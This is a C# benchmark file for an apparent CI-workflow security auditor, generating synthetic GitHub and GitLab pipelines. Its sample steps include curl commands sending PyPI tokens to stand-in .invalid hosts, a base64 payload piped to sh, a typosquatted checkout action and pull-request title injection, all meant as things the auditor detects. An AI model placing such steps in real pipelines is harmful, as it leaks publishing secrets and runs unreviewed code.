using BenchmarkDotNet.Attributes;
using Moat.Analysis.Workflows;

namespace Moat.Benchmarks;

/// <summary>
/// Parses and audits 1,000 generated workflows (realistic shapes: CI matrices, release jobs, pull_request_target
/// triage, GitLab pipelines) in one call each.
/// dotnet run -c Release --project bench/Moat.Benchmarks -- --filter '*WorkflowBenchmarks*'
/// </summary>
[MemoryDiagnoser]
public class WorkflowBenchmarks
{
    private List<(string Yaml, string Path, CiDialect Dialect)> _workflows = [];

    [GlobalSetup]
    public void Setup() => _workflows = GeneratedWorkflows.Create(1000, seed: 42);

    [Benchmark(Description = "audit 1,000 workflows")]
    public int AuditThousandWorkflows()
    {
        var findings = 0;
        foreach (var (yaml, path, dialect) in _workflows) findings += WorkflowAuditor.AuditText(yaml, path, dialect).Findings.Count;
        return findings;
    }
}

/// <summary>Workflow text generator shared by the benchmark and the whole-process script (bench/ci-secrets-bench.sh).</summary>
public static class GeneratedWorkflows
{
    private static readonly string[] Actions =
    [
        "actions/checkout@v4", "actions/setup-python@0b93645e9fea7318ecaed2b359559ac225c90a2b", "actions/cache@v4",
        "codecov/codecov-action@v5", "actons/checkout@v4", "docker/build-push-action@v6", "pypa/gh-action-pypi-publish@release/v1",
        "astral-sh/setup-uv@v5", "./.github/actions/setup",
    ];

    private static readonly string[] Runs =
    [
        "python -m pip install -e .[test]\n          pytest -q --cov",
        "echo \"${{ github.event.pull_request.title }}\"",
        "curl -s -X POST -d \"t=${{ secrets.PYPI_API_TOKEN }}\" https://collector.example.invalid/x",
        "twine upload -u __token__ -p ${{ secrets.PYPI_TOKEN }} dist/*",
        "echo ZWNobyBoaQo= | base64 -d | sh",
        "ruff check .\n          mypy src",
        "make docs\n          curl -s -H \"Authorization: Bearer $GH_TOKEN\" https://api.github.com/repos/o/r/releases",
        "python -m build\n          ls -la dist/",
    ];

    private static readonly string[] Triggers = ["push", "pull_request", "pull_request_target", "workflow_dispatch", "release", "issue_comment"];

    public static List<(string Yaml, string Path, CiDialect Dialect)> Create(int count, int seed)
    {
        var random = new Random(seed);
        var list = new List<(string, string, CiDialect)>(count);
        for (var i = 0; i < count; i++)
        {
            if (i % 20 == 19)
            {
                list.Add((GitLab(random), $"pipelines/{i}/.gitlab-ci.yml", CiDialect.GitLab));
                continue;
            }
            var text = new System.Text.StringBuilder();
            text.Append($"name: Workflow {i}\non:\n");
            foreach (var trigger in Triggers.OrderBy(_ => random.Next()).Take(1 + random.Next(3))) text.Append($"  {trigger}:\n");
            if (random.Next(3) == 0) text.Append("permissions:\n  contents: read\n");
            text.Append("env:\n  PYTHONUNBUFFERED: \"1\"\njobs:\n");
            for (var j = 0; j < 1 + random.Next(4); j++)
            {
                text.Append($"  job{j}:\n    runs-on: {(random.Next(10) == 0 ? "[self-hosted, linux]" : "ubuntu-latest")}\n");
                text.Append("    strategy:\n      matrix:\n        python: [\"3.10\", \"3.11\", \"3.12\", \"3.13\"]\n");
                text.Append("    env:\n      GH_TOKEN: ${{ secrets.GITHUB_TOKEN }}\n    steps:\n");
                for (var s = 0; s < 3 + random.Next(8); s++)
                {
                    if (random.Next(2) == 0)
                    {
                        text.Append($"      - uses: {Actions[random.Next(Actions.Length)]}\n        with:\n          python-version: ${{{{ matrix.python }}}}\n          cache: pip\n");
                    }
                    else
                    {
                        text.Append($"      - name: step {s}\n        run: |\n          {Runs[random.Next(Runs.Length)]}\n");
                    }
                }
            }
            list.Add((text.ToString(), $"repo{i}/.github/workflows/ci.yml", CiDialect.GitHubWorkflow));
        }
        return list;
    }

    private static string GitLab(Random random) =>
        "stages: [test, publish]\nvariables:\n  PIP_CACHE_DIR: .cache\n" +
        string.Concat(Enumerable.Range(0, 2 + random.Next(4)).Select(j =>
            $"job{j}:\n  stage: test\n  script:\n    - pip install -e .\n    - pytest\n    - {(random.Next(4) == 0 ? "curl -d \"$PYPI_TOKEN\" https://x.example.invalid" : "echo done")}\n"));
}
